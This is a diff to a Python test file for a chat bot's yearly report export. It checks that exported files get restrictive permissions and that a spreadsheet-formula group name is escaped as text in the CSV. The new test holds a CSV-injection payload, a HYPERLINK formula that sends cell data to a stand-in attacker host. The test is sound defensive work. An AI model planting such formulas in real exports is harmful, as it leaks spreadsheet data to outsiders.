@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import csv
 import io
+import stat
 import struct
 from dataclasses import replace
 from pathlib import Path
@@ -129,15 +130,36 @@ async def test_the_command_line_export(tmp_path: Path) -> None:
     config = tmp_path / "config.toml"
     config.write_text('[matrix]\nhomeserver = "http://127.0.0.1:1"\nuser_id = "@b:localhost"\n'
                       'password = "x"\n[rooms]\nmain = "#cct:localhost"\n', encoding="utf-8")
+    config.chmod(0o600)  # it holds a password
     (tmp_path / "data").mkdir()
     database = Database(f"sqlite+aiosqlite:///{tmp_path / 'data' / 'cct.db'}")
     await database.upgrade()
     await seed(database)
     await database.dispose()
     out = tmp_path / "bilan"
+    out.mkdir()
+    stale = out / f"bilan-{YEAR}.md"
+    stale.write_text("ancien", encoding="utf-8")
+    stale.chmod(0o644)  # a file left there, readable by all: corrected before it is written
     code = await asyncio.to_thread(main, ["export", "bilan", "--annee", str(YEAR), "--dir",
                                           str(out), "--config", str(config)])
     assert code == 0
+    assert len(list(out.iterdir())) == 6
+    assert {stat.S_IMODE(path.stat().st_mode) for path in out.iterdir()} == {0o600}
+    assert stale.read_text(encoding="utf-8").startswith("# ")
     rows = list(csv.DictReader((out / f"bilan-{YEAR}-indicateurs.csv").open(encoding="utf-8")))
     assert {r["indicator"]: r["value"] for r in rows if not r["key"]}["participants_year"] == "200"
     assert png_size((out / f"bilan-{YEAR}-graphique.png").read_bytes()) == (800, 700)
+
+
+async def test_a_formula_as_a_group_name_is_text_in_the_bilan(bot: Harness, tmp_path: Path) -> None:
+    """A group named like a spreadsheet formula: the bilan's CSV (from the chat and the command
+    line alike) holds it as text."""
+    formula = '=HYPERLINK("https://evil.example/?d="&A1,"Voir le bilan")'
+    reply = await bot.reply_to(f"!projet creer {formula}")
+    assert "créé" in reply, reply
+    year = bot.clock.now().year
+    written = await export_bilan(bot.db, year, tmp_path / "out", Translator("fr"), "CCT", PARIS)
+    groups_csv = next(p for p in written if p.name.endswith("-groupes.csv"))
+    names = [row["name"] for row in csv.DictReader(groups_csv.open(encoding="utf-8"))]
+    assert names == ["'" + formula]
